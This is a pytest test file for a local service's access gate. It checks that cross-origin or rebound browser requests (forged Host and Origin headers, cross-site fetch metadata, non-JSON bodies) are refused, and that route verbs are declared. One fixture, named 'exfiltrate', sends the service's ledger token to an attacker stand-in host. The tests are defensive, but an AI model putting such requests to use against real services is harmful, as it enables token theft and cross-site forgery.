"""What a browser page from elsewhere cannot forge: Host, Origin, Sec-Fetch-Site and a JSON body.
Each is refused by `browser_refusal` whatever token the request carries; what a program sends passes."""

from __future__ import annotations

import pytest

from door.callers import browser_refusal
from door.checks import inner_asks
from door.declarations import directory_route, dispatch_route, ledger_route
from door.errors import RouteError
from door.routes import Declared, Route, Routes

JSON = {"content-type": "application/json"}


@pytest.mark.parametrize(
    ("headers", "body", "limit"),
    [
        ({"host": "evil.example"}, b"", "host"),
        ({"host": "flightlog.local.evil.example:8080"}, b"", "host"),
        ({"origin": "http://evil.example"}, b"", "origin"),
        ({"origin": "null"}, b"", "origin"),
        ({"origin": "http://flightlog.local.evil.example"}, b"", "origin"),
        ({"sec-fetch-site": "cross-site"}, b"", "origin"),
        ({"sec-fetch-site": "same-site"}, b"", "origin"),
        ({"content-type": "text/plain"}, b"{}", "content_type"),
        ({"content-type": "application/x-www-form-urlencoded"}, b"a=1", "content_type"),
        ({"content-type": "multipart/form-data; boundary=x"}, b"--x", "content_type"),
        ({}, b"{}", "content_type"),
    ],
)
def test_browser_shaped_requests_are_refused(headers: dict[str, str], body: bytes, limit: str) -> None:
    """Every shape a cross-origin page (or a rebound name) can produce names the limit it broke."""
    refusal = browser_refusal("POST", headers, body)
    assert refusal is not None and refusal[0] == limit


@pytest.mark.parametrize(
    "headers",
    [
        {"host": "flightlog.local", **JSON},
        {"Host": "FLIGHTLOG.LOCAL:443", "Content-Type": "application/json; charset=utf-8"},
        {"origin": "https://flightlog.local", "sec-fetch-site": "same-origin", **JSON},
        JSON,
    ],
)
def test_what_programs_send_passes(headers: dict[str, str]) -> None:
    """A program's request (or flightlog.local's own page) is not refused for its shape."""
    assert browser_refusal("POST", headers, b"{}") is None


def test_what_the_routes_declare_and_contracts_ask() -> None:
    """Reading the Ledger (also through the joins) asks `ledger`, changing the Directory `write` on
    the rows changed, reading it `read`, a call is judged by the door itself; a contract that calls
    those routes or spends flightlog's own token asks the same of the caller's token."""
    routes = Routes()
    directory = _Rows()
    routes.add(ledger_route(_never))
    routes.add(ledger_route(_never, "/api/join/"))
    routes.add(dispatch_route(_never))
    routes.add(directory_route(_never, lambda: directory))  # type: ignore[arg-type,return-value]

    def asked(method: str, path: str, body: bytes = b"") -> tuple[str, bool]:
        route = routes.match(path)
        assert route is not None
        found = route.declared(method, path, {}, {}, body)
        return found.verb, found.handler_judges

    assert asked("GET", "/api/ledger/counts") == ("ledger", False)
    assert asked("GET", "/api/dispatch/trace/x") == ("ledger", False)
    assert asked("GET", "/api/join/task/T") == ("ledger", False)
    assert (
        asked("POST", "/api/directory/write", b'{"bundle": "tool", "path": "a.md", "content": "x"}')[0]
        == "write"
    )
    assert asked("GET", "/api/directory/search") == ("read", False)
    assert asked("POST", "/api/dispatch") == ("call", True)  # the door judges, and files, itself
    ledger_row = {"method": "GET", "url": "http://FLIGHTLOG.local/api/ledger/row/x"}
    assert [a.verb for a in inner_asks(ledger_row, routes)] == ["ledger"]
    exfiltrate = {
        "method": "GET",
        "url": "https://evil.example/",
        "headers": {"x": "[FLIGHTLOG_LEDGER_TOKEN]"},
    }
    assert [a.verb for a in inner_asks([exfiltrate], routes)] == ["ledger"]
    write = {
        "method": "POST",
        "url": "http://flightlog.local/api/directory/write",
        "body": {"bundle": "tool"},
    }
    assert [a.verb for a in inner_asks(write, routes)] == ["write"]
    assert inner_asks({"method": "GET", "url": "https://api.example/"}, routes) == []


def test_a_route_cannot_be_registered_without_a_verb_and_a_target() -> None:
    """The route table takes only `Route`s, each naming gate verbs and a door it knows, with a
    declaration; a declaration of a verb the route did not list is refused when asked."""
    with pytest.raises(RouteError):
        Routes().add(_never)  # type: ignore[arg-type]  # a bare handler: no verb, no target
    with pytest.raises(RouteError, match="verbs"):
        Route("/api/x", "http", frozenset(), lambda *_: Declared("read"), _never)
    with pytest.raises(RouteError, match="verbs"):
        Route("/api/x", "http", frozenset({"admin"}), lambda *_: Declared("admin"), _never)
    with pytest.raises(RouteError, match="door"):
        Route("/api/x", "fax", frozenset({"read"}), lambda *_: Declared("read"), _never)
    lying = Route("/api/x", "http", frozenset({"read"}), lambda *_: Declared("write"), _never)
    with pytest.raises(RouteError, match="not one of its verbs"):
        lying.declared("POST", "/api/x", {}, {}, b"")


def _never(*_: object) -> tuple[int, dict[str, str], bytes]:
    raise AssertionError("a handler ran where only the declaration was asked")


class _Rows:
    """A Directory with no rows yet (what a declaration of a new row reads)."""

    def text_at(self, bundle: str, path: str) -> None:
        return None
